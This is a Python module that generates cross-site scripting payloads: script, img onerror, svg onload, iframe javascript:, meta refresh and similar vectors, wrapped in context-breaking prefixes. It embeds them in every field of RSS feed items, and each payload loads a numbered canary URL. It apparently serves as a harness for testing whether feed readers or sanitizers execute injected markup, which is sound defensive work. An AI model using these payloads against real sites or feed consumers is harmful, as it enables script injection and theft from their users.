"""Markup that runs where a reader is careless: each piece visits a canary once it does."""

from __future__ import annotations

from html import escape

_ELEMENTS = (
    "<script>{js}</script>",
    "<script/x>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    '<script src="{url}"></script>',
    '<img src="{url}">',
    '<img src=x onerror="{js}">',
    "<img src=x onerror={js}//",
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>',
    '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{url}"/>',
    '<body onload="{js}">',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe src="{url}"></iframe>',
    '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<input autofocus onfocus="{js}">',
    '<details open ontoggle="{js}">',
    '<video><source onerror="{js}"></video>',
    '<style>@import "{url}";</style>',
    '<link rel="stylesheet" href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
)
_DISGUISES = (
    "{0}",
    "]]>{0}",
    "--></title></textarea></noscript></style></script>{0}",
    "\"'>{0}",
    "\u202e\ufeff{0}",
)


def payloads(canary: str) -> tuple[str, ...]:
    """Each of them asks the canary for a number of its own when it runs."""
    made = (
        disguise.format(
            element.format(js=f"new Image().src=`{canary}{number}`", url=f"{canary}{number}")
        )
        for number, (disguise, element) in enumerate(
            (disguise, element) for disguise in _DISGUISES for element in _ELEMENTS
        )
    )
    return tuple(made)


def item(payload: str, number: int) -> str:
    """An item that holds it in every field: written as it is, escaped, and in CDATA."""
    plain, twice = escape(payload), escape(escape(payload))
    raw = "]]]]><![CDATA[>".join(payload.split("]]>"))
    link = f"javascript:{plain}" if number % 2 else f"https://sava.example/{number}?{plain}"
    return (
        f"<item><title>flood {number} {plain}</title><guid>{number} {plain}</guid>"
        f"<link>{link}</link><author>{plain}</author><category>{twice}</category>"
        f'<source url="{plain}">{twice}</source><enclosure url="{plain}" type="{plain}"/>'
        f"<description>flood {twice} {plain}</description>"
        f"<content:encoded><![CDATA[flood {raw}]]></content:encoded></item>"
    )
